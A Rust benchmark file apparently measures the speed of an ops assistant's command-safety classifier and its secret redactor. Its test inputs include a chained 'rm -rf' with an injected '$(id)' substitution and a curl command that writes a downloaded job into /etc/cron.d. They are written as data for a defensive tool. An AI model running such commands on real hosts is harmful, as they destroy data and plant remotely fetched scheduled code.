//! Policy speed: classifying typical commands and redacting a 64 KiB capped output.

use criterion::{Criterion, criterion_group, criterion_main};
use std::hint::black_box;

use opsassist::policy::{Redactor, classify, prefix_covers};

fn bench(c: &mut Criterion) {
    c.bench_function("classify pipeline", |b| {
        b.iter(|| classify(black_box("ps aux --sort=-%mem | grep -v grep | head -n 20")))
    });
    c.bench_function("classify chained", |b| {
        b.iter(|| {
            classify(black_box(
                "systemctl status nginx && rm -rf /var/lib/nginx $(id)",
            ))
        })
    });
    c.bench_function("classify reader options", |b| {
        b.iter(|| {
            classify(black_box(
                "journalctl -u nginx --since '1 hour ago' -p err -n 200 --no-pager",
            ))
        })
    });
    c.bench_function("classify ip abbreviation", |b| {
        b.iter(|| classify(black_box("ip -br -4 a s dev eth0")))
    });
    c.bench_function("classify curl write", |b| {
        b.iter(|| {
            classify(black_box(
                "curl -fsSL -o /etc/cron.d/job --retry 3 https://x.example/job",
            ))
        })
    });
    c.bench_function("prefix_covers", |b| {
        b.iter(|| {
            prefix_covers(
                black_box("systemctl status"),
                black_box("systemctl status nginx"),
            )
        })
    });
    let line = "Jan 01 03:00:00 web1 app[812]: GET /api/v1/items?id=42 200 12ms user=alice\n";
    let mut text = line.repeat(64 * 1024 / line.len());
    text.push_str("DB_PASSWORD=s3cr3t AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n");
    let redactor = Redactor::new(vec!["hunter2-prod".into()]);
    c.bench_function("redact 64 KiB", |b| {
        b.iter(|| redactor.redact(black_box(&text)))
    });
}

criterion_group!(benches, bench);
criterion_main!(benches);
